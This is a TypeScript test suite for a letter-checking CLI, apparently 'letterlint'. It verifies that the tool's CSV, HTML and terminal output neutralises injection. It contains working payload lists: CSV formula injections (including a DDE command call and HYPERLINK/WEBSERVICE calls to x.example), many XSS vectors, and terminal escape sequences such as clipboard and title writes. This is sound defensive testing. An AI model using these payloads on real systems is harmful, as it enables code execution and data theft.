import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { fileURLToPath, pathToFileURL } from 'node:url'
import { unified } from 'unified'
import rehypeParse from 'rehype-parse'
import type { Root } from 'hast'
import { visit } from 'unist-util-visit'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'

const bin = fileURLToPath(new URL('../../bin/letterlint.js', import.meta.url))
const everything = process.env['TEST_EVERYTHING'] === 'true'
const works = (name: string, flag = '--version'): boolean => spawnSync(name, [flag]).status === 0
const office = works('soffice')
const chromium = ['chromium', 'chromium-browser', 'google-chrome'].find((name) => works(name))
const pty = works('script')

// oxlint-disable-next-line no-control-regex -- how a terminal is told to colour
const COLOUR = /\u001B\[\d+m/g

const folder = mkdtempSync(join(tmpdir(), 'letterlint-test-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

function put(name: string, content: string): void {
  mkdirSync(dirname(join(folder, name)), { recursive: true })
  writeFileSync(join(folder, name), content)
}

function cli(...argv: string[]): { code: number | null; out: string; err: string } {
  const { status, stdout, stderr } = spawnSync(process.execPath, [bin, ...argv], { cwd: folder, encoding: 'utf8', maxBuffer: 1 << 28 })
  return { code: status, out: stdout, err: stderr }
}

describe.skipIf(!office && !everything)(`tables in LibreOffice${office ? '' : ' (left out: it is not installed here)'}`, () => {
  const FORMULAS = [
    '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', ' \t =1+1', "=cmd|' /C calc'!A0", '=DDE("soffice";"a.ods";"A1")', '=HYPERLINK("http://x.example/?"&A1)', '=WEBSERVICE("http://x.example")',
    'x;=1+1', 'x;;=1+1', 'x; =1+1', 'x\t=1+1', 'x\t+1', 'x\n=1+1', 'x\r\n@SUM(1,1)', 'x|=1+1', '"=1+1', '"",=1+1', '";=1+1', '"\t=1+1', '","=1+1', "'=1+1", '\uFF1D1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '=1+1\n=2+2;=3+3\t=4+4',
  ]
  /** How a person may open it: comma, semicolon or tab between cells, with formulas worked out, and as it comes. */
  const WAYS = { comma: '44,34,76,1,,0,false,true,false,false,false,-1,true', semicolon: '59,34,76,1,,0,false,true,false,false,false,-1,true', tab: '9,34,76,1,,0,false,true,false,false,false,-1,true', any: '44/59/9,34,76,1,,0,false,true,false,false,false,-1,true', usual: '44,34,76,1' }

  /** The formulas that LibreOffice finds in tables, opened in one way. */
  function formulas(way: keyof typeof WAYS, ...names: string[]): string[] {
    const out = join(folder, `opened-${way}`)
    const argv = ['--headless', `-env:UserInstallation=file://${join(folder, 'office')}`, `--infilter=CSV:${WAYS[way]}`, '--convert-to', 'fods', '--outdir', out, ...names.map((name) => join(folder, name))]
    const { status, stderr } = spawnSync('soffice', argv, { encoding: 'utf8' })
    if (status !== 0) throw new Error(stderr)
    return names.flatMap((name) => {
      const sheet = readFileSync(join(out, name.replace(/csv$/, 'fods')), 'utf8')
      expect(sheet).toContain('<table:table-cell')
      return sheet.match(/table:formula="[^"]*"|<table:dde-link|xlink:href="http/g) ?? []
    })
  }

  beforeAll(() => {
    FORMULAS.forEach((formula, i) => {
      const name = formula.replaceAll('/', '\u2215')
      put(`in/${name}.md`, 'Dear Mrs Okoro\n\nThank you.\n')
      put(`in/${name}.case.yaml`, ['area', 'unit', 'organisation', 'reference'].map((key) => `${key}: ${JSON.stringify(`${formula}${i % 3 === 0 ? '' : ` ${key}`}`)}\n`).join(''))
    })
    put('raw.csv', FORMULAS.map((formula) => `x,"${formula.replaceAll('"', '""')}",y\r\n`).join(''))
    expect(cli('report', 'in', '--format', 'csv', '--by', 'area', 'unit', 'organisation', '--output', 'report.csv').code).toBe(0)
    expect(cli('sample', 'in', '--size', String(FORMULAS.length), '--output', 'sample.csv', '--pages', 'pages').code).toBe(0)
    for (const name of ['report.csv', 'sample.csv']) expect(readFileSync(join(folder, name), 'utf8')).toContain('=1+1')
  }, 120_000)

  test.for(Object.keys(WAYS) as Array<keyof typeof WAYS>)('no cell is a formula (%s)', { timeout: 120_000 }, (way) => {
    // Without the guard there would be some: the test can tell.
    expect(formulas(way, 'raw.csv').length).toBeGreaterThan(2)
    expect(formulas(way, 'report.csv', 'sample.csv')).toEqual([])
  })
})

describe.skipIf(chromium === undefined && !everything)(`pages in Chromium${chromium === undefined ? ' (left out: it is not installed here)' : ''}`, () => {
  const RUN = "document.title='OWNED';document.documentElement.setAttribute('owned','1')"
  const elsewhere = join(folder, 'elsewhere.html')
  const ATTACKS = [
    `<script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `"><script>${RUN}</script>`,
    `'><img src=x onerror="${RUN}">`,
    `<img src=x onerror=${RUN}>`,
    `" autofocus onfocus="${RUN}" x="`,
    `' onmouseover='${RUN}' style='position:fixed;inset:0`,
    `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
    `</title><svg/onload=${RUN}>`,
    `</style><script>${RUN}</script>`,
    `</textarea></noscript></template><script>${RUN}</script>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
    `<a href="javascript:${RUN}">x</a> [x](javascript:${RUN}) <javascript:${RUN}> javascript:${RUN}`,
    `<meta http-equiv="refresh" content="0;url=${pathToFileURL(elsewhere).href}">`,
    `<base href="https://x.example/"><link rel="stylesheet" href="https://x.example/x.css">`,
    `<style>@import 'https://x.example/x.css';body{background:url(https://x.example/x)}</style>`,
    `<form action="https://x.example"><button formaction="javascript:${RUN}">x</button></form>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<details open ontoggle=${RUN}>`,
    `<!--><script>${RUN}</script>-->`,
    `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script>${RUN}&#60;/script>`,
    `\u0000<\u0000script>${RUN}</script> <scr\u0000ipt>${RUN}</scr\u0000ipt>`,
    `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %>`,
  ]
  const LETTER = (text: string): string => `Dear Mrs ${text}\n\nWe recieved ${text} of of 3 May. We apoligise ${text}.\n\n## ${text}\n\n> ${text}\n\n- ${text}\n\nYours sincerely\n\n${text}\n`

  beforeAll(() => {
    writeFileSync(elsewhere, '<!doctype html><title>OWNED</title><html owned="1">')
    const plain = ATTACKS.map((attack) => attack.replaceAll('\u0000', ''))
    put('html/letter.md', `---\nreference: ${JSON.stringify(plain[3])}\narea: ${JSON.stringify(plain[0])}\nunit: ${JSON.stringify(plain[7])}\naddressee: ${JSON.stringify([plain[4], plain[5]])}\n---\n${plain.map(LETTER).join('\n')}`)
    put('html/letter.complaint.md', plain.map((attack, i) => `${i + 1}. I complain that ${attack} was not done. Why was ${attack}?`).join('\n'))
    put('html/text.txt', plain.map(LETTER).join('\n'))
    put('html/page.html', `<body>${plain.map((attack) => `<p>We recieved ${attack} of of it.</p><p>We recieved ${attack.replaceAll('&', '&amp;').replaceAll('<', '&lt;')} of of it.</p>`).join('')}</body>`)
    for (const [i, attack] of plain.entries()) {
      const name = attack.replaceAll('/', '\u2215').slice(0, 180)
      put(`html/names/${name}.md`, `---\narea: ${JSON.stringify(attack)}\nunit: ${JSON.stringify(`${attack} ${i}`)}\norganisation: ${JSON.stringify(attack)}\ncomplainant: ${JSON.stringify(attack)}\n---\nDear Mrs ${attack}\n\nWe recieved it.\n`)
    }
    expect(cli('check', 'html/letter.md', '--format', 'html', '--output', 'letter-page.html').code).toBeLessThan(2)
    expect(cli('check', 'html', '--format', 'html', '--output', 'letters-page.html').code).toBeLessThan(2)
    expect(cli('report', 'html', '--format', 'html', '--by', 'area', 'unit', 'organisation', '--output', 'report-page.html').code).toBe(0)
    expect(cli('sample', 'html', '--size', '40', '--pages', 'sample-pages').code).toBe(0)
  }, 120_000)

  /** The page as it stands once its scripts have run, if any could. */
  function opened(name: string): string {
    const args = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', `--user-data-dir=${join(folder, 'profile')}`, '--virtual-time-budget=8000', '--dump-dom', pathToFileURL(join(folder, name)).href]
    const { stdout, stderr } = spawnSync(chromium as string, args, { encoding: 'utf8', maxBuffer: 1 << 28 })
    if (!stdout.includes('<body')) throw new Error(stderr)
    return stdout
  }

  function withoutPolicy(name: string): string {
    const page = readFileSync(join(folder, name), 'utf8')
    const bare = page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
    expect(bare).not.toBe(page)
    const copy = name.replace('/', '-').replace('.html', '-bare.html')
    put(copy, bare)
    return copy
  }

  test('the attacks would work on a page that takes them as they are', { timeout: 120_000 }, () => {
    for (const i of [0, 4, 7, 12]) {
      put('poor.html', `<!doctype html><html><head><title>x</title></head><body><p>${ATTACKS[i]}</p></body></html>`)
      expect(opened('poor.html'), ATTACKS[i]).toMatch(/<html[^>]* owned="1"|<title>OWNED/)
    }
    put('poor.html', `<!doctype html><html><head><title>x</title>${ATTACKS[15]}</head><body></body></html>`)
    expect(opened('poor.html')).toContain('<title>OWNED</title>')
  })

  test.for(['letter-page.html', 'letters-page.html', 'report-page.html', 'sample-pages/001.html', 'sample-pages/020.html'])('%s runs none of them, with its policy and without', { timeout: 120_000 }, (name) => {
    for (const page of [name, withoutPolicy(name)]) {
      const dom = opened(page)
      expect(/OWNED|x\.example/.test(dom), page).toBe(true)
      expect(/<html[^>]* owned=/.test(dom), page).toBe(false)
      expect(/<title>([^<]*)/.exec(dom)?.[1], page).toMatch(/letterlint|letter|report/i)
    }
    const styles: unknown[] = []
    const tree = unified().use(rehypeParse).parse(readFileSync(join(folder, name), 'utf8')) as Root
    visit(tree, 'element', ({ tagName, properties }) => {
      if (tagName === 'style') styles.push(tagName)
      expect(['script', 'iframe', 'object', 'embed', 'base', 'link', 'form', 'math', 'img', 'template', 'noscript']).not.toContain(tagName)
      for (const [key, value] of Object.entries(properties)) {
        expect(key).not.toMatch(/^on/i)
        if (/^(?:href|src|action|formaction|xlinkhref|data|srcdoc)$/i.test(key)) expect(String(value)).toMatch(/^(?:#|https:\/\/(?!x\.example))/)
        if (key === 'httpEquiv') expect(value).toEqual(['Content-Security-Policy'])
      }
    })
    expect(styles).toHaveLength(1)
  })
})

describe.skipIf(!pty && !everything)(`a terminal${pty ? '' : ' (left out: script, which makes one, is not installed here)'}`, () => {
  const ORDERS = [
    '\u001B]0;OWNED\u0007', '\u001B]8;;http://x.example\u001B\\link\u001B]8;;\u001B\\', '\u001B]52;c;T1dORUQ=\u0007', '\u001B[2J\u001B[H', '\u001B[1A\u001B[2K', '\u001B[5m\u001B[8m', '\u001B[?1049h', '\u001B[6n', '\u001BP+q544e\u001B\\', '\u001BPq#0\u001B\\', '\u001B_Gx\u001B\\', '\u001B^x\u001B\\', '\u001Bc', '\u001B(0',
    '\u0007', '\u0008\u0008', '\u000B', '\u000C', '\u000E\u000F', '\u007F', '\u0085', '\u009B2J', '\u009D0;OWNED\u009C', '\u0090q\u009C', '\u202Egnp.exe', '\u2066x\u2069', '\u200F', '\u061C', '\rOWNED', '\u001B]1337;File=name=x:AAAA\u0007', '\u001B[200~x\u001B[201~', '\u001B[>4;1m', '\u001B[38;5;1m',
  ]
  const all = ORDERS.join(' x ')
  // None may be in the name of a file or a folder.
  const inNames = ORDERS.map((order) => order.replaceAll('/', '\u2215'))
  const LETTER = `Dear Mrs Okoro ${all}\n\nWe recieved ${all} your letter of of 3 May, and Mr Vane${all} spoke to you.\n\n${ORDERS.map((order) => `We apoligise${order} for the the delay ${order}.\n`).join('\n')}\nYours sincerely\n\nAmos Field ${all}\n`
  const YAML = ['area', 'unit', 'organisation', 'reference', 'complainant'].map((key) => `${key}: ${JSON.stringify(`x${all}`)}\n`).join('')

  beforeAll(() => {
    put('tty/letter.txt', LETTER)
    put('tty/letter.case.yaml', YAML)
    put('tty/letter.complaint.txt', `1. I complain that ${all} was not done.\n2. Why was ${all}?\n`)
    put('tty/other.md', LETTER)
    for (const [i, order] of inNames.entries()) {
      put(`tty/names/${i}${order}.txt`, 'Dear Mrs Okoro\n\nWe recieved it.\n')
      put(`tty/broken/${i}${order}.docx`, order)
      put(`tty/broken/${i}${order}/letter.txt`, 'Dear Mrs Okoro\n')
      put(`tty/broken/${i}${order}/case.yaml`, `letter: ${JSON.stringify(order)}\n${JSON.stringify(order)}: 1\n`)
      put(`tty/broken/front-${i}.md`, `---\n${i % 2 === 0 ? `letter: ${JSON.stringify(order)}` : `${JSON.stringify(order)}: 1`}\n---\nDear Mrs Okoro\n`)
      put(`tty/raw/${i}.case.yaml`, `received: ${order}\n`)
    }
    put('tty/labelled/case/letter.md', LETTER)
    put('tty/labelled/case/case.yaml', 'letter: stage-one\n')
    put('tty/labelled/case/labels.yaml', `answers: {}\nfindings:\n  - ${JSON.stringify({ rule: 'spelling', quote: all })}\n`)
    put('tty/own.yaml', `profile: cps\nwords: [${JSON.stringify(all)}]\nrules: {${JSON.stringify(all)}: off}\n`)
    put('tty/own-dictionary.yaml', `${JSON.stringify(all)}: []\n`)
  })

  /** What a terminal is sent. */
  function shown(argv: string[], color: boolean): string {
    const quoted = [process.execPath, bin, ...argv].map((one) => `'${one.replaceAll("'", `'\\''`)}'`).join(' ')
    const { stdout } = spawnSync('script', ['-qec', quoted, '/dev/null'], { cwd: join(folder, 'tty'), encoding: 'utf8', maxBuffer: 1 << 28, env: { ...process.env, TERM: 'xterm-256color', COLORTERM: 'truecolor', NO_COLOR: color ? '' : '1', FORCE_COLOR: undefined } })
    return stdout
  }

  /** Runs, each by a name. Those of many letters are tried with colours alone, which let more through. */
  const RUNS: ReadonlyArray<readonly string[]> = [
    ['check', 'letter.txt', 'other.md'],
    ['check', 'letter.txt', '--quiet'],
    ['check', 'names', 'broken', 'raw'],
    ['check', 'names', 'broken', 'raw', '--output', '/dev/null'],
    ['check', 'letter.txt', ...inNames],
    ...['json', 'html', 'markdown', 'sarif', 'github', 'junit', 'checkstyle'].map((format) => ['check', '.', '--format', format, '--jobs', '1']),
    ['check', '.', '--mask', '--jobs', '1'],
    ['check', '.', '--fix', '--dry-run', '--jobs', '1'],
    ['compare', 'letter.txt', 'other.md'],
    ['compare', 'names', 'broken'],
    ...['markdown', 'html', 'csv', 'json'].map((format) => ['report', '.', '--format', format, '--by', 'area', 'unit', '--jobs', '1']),
    ['sample', '.', '--size', '50'],
    ['redact', '.', '--courts', '--police'],
    ...['pretty', 'json', 'ics'].map((format) => ['deadlines', '.', '--format', format]),
    ['deadlines', ...inNames],
    ['evaluate', 'labelled', '--misses'],
    ['rules', '--config', 'own.yaml'],
    ['rules', 'test', 'own-dictionary.yaml'],
    ['explain', all],
    ['check', 'letter.txt', '--config', inNames[0] as string],
    ['check', 'letter.txt', '--profile', all],
    ['check', 'letter.txt', '--set', `letter=${all}`],
    ['check', 'letter.txt', '--set', `${all}=x`],
    ['check', 'letter.txt', '--today', all],
    ['check', 'letter.txt', '--format', all],
    ['check', 'letter.txt', `--${all}`],
    ['check', 'letter.txt', '--changed', all],
    ['check', 'letter.txt', '--baseline', inNames[2] as string],
    ['check', 'letter.txt', '--output', `${inNames[1]}/x`],
    [all],
  ]

  test('takes the orders of a program that does not guard it', () => {
    const { stdout } = spawnSync('script', ['-qec', "cat letter.txt", '/dev/null'], { cwd: join(folder, 'tty'), encoding: 'utf8' })
    expect(stdout).toContain('\u001B]0;OWNED\u0007')
    expect(stdout).toContain('\u009B2J')
  })

  test.for(RUNS.map((argv) => [argv.map((one) => (/[\w.-]/.test(one.charAt(0)) ? one : '(orders)')).slice(0, 6).join(' ').slice(0, 60), argv] as const))('is given no order by %s', ([, argv]) => {
    for (const color of argv.includes('.') ? [true] : [true, false]) {
      const text = shown([...argv], color)
      expect(text.length).toBeGreaterThan(10)
      const colours = text.match(COLOUR) ?? []
      for (const one of new Set(colours)) expect(color ? ['\u001B[1m', '\u001B[2m', '\u001B[22m', '\u001B[31m', '\u001B[32m', '\u001B[33m', '\u001B[34m', '\u001B[36m', '\u001B[39m'] : []).toContain(one)
      const rest = text.replaceAll('\r\n', '\n').replaceAll('\r\u001B[K', '').replace(COLOUR, '')
      // oxlint-disable-next-line no-control-regex -- the characters are what the test is about
      const orders = rest.match(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069][^]{0,12}/)
      expect(orders).toBeNull()
    }
  })
})
